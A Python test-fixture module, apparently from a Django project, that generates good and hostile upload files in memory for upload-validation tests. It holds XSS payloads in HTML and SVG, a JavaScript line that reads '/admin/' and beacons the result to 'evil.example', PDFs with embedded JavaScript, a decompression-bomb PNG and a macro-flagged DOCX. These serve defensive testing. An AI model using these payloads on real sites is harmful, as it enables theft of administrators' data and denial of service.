"""Files for the upload tests, good and hostile, made in memory."""

import functools
import zipfile
from io import BytesIO

from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import ExifTags, Image
from pypdf import PdfWriter
from pypdf.actions import JavaScript

HTML = b"<!DOCTYPE html><html><body><script>fetch('/admin/')</script></body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'
JAVASCRIPT = b"fetch('/admin/').then(r => r.text()).then(t => navigator.sendBeacon('//evil.example', t));\n"
XMP = b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF/></x:xmpmeta>'
DOCX_CONTENT_TYPES = (
    b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.'
    b'wordprocessingml.document.main+xml"/></Types>'
)


def upload(name, content, content_type="application/octet-stream"):
    return SimpleUploadedFile(name, content, content_type=content_type)


def pdf(*, password=None, javascript=None):
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    if javascript:
        writer.add_open_action(JavaScript(javascript))
    if password:
        writer.encrypt(password)
    buffer = BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def image(image_format="PNG", size=(40, 60), mode="RGB", **options):
    buffer = BytesIO()
    Image.new(mode, size, "navy" if mode == "RGB" else 0).save(buffer, format=image_format, **options)
    return buffer.getvalue()


def jpeg_with_gps_and_orientation():
    """A 40 × 20 photo whose EXIF says: turn me upright (to 20 × 40), taken at these coordinates."""
    exif = Image.Exif()
    exif[ExifTags.Base.Orientation] = 6
    exif[ExifTags.Base.Make] = "Phone"
    gps = exif.get_ifd(ExifTags.IFD.GPSInfo)
    gps[ExifTags.GPS.GPSLatitudeRef] = "N"
    gps[ExifTags.GPS.GPSLatitude] = (60.0, 52.0, 0.0)
    gps[ExifTags.GPS.GPSLongitudeRef] = "E"
    gps[ExifTags.GPS.GPSLongitude] = (26.0, 42.0, 0.0)
    return image("JPEG", size=(40, 20), exif=exif, xmp=XMP)


@functools.cache
def pixel_bomb_png():
    """12 500 × 12 500 one-bit pixels: a few kilobytes on disk, gigabytes once drawn in colour."""
    return image("PNG", size=(12_500, 12_500), mode="1", optimize=True)


def zip_file(entries, first=None):
    buffer = BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        if first:
            archive.writestr(*first, compress_type=zipfile.ZIP_STORED)
        for name, data in entries.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def docx(*, macros=False):
    entries = {"[Content_Types].xml": DOCX_CONTENT_TYPES, "word/document.xml": b"<w:document/>"}
    if macros:
        entries["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0 macro"
    return zip_file(entries)


def odt():
    return zip_file(
        {"content.xml": b"<office:document-content/>"},
        first=("mimetype", "application/vnd.oasis.opendocument.text"),
    )
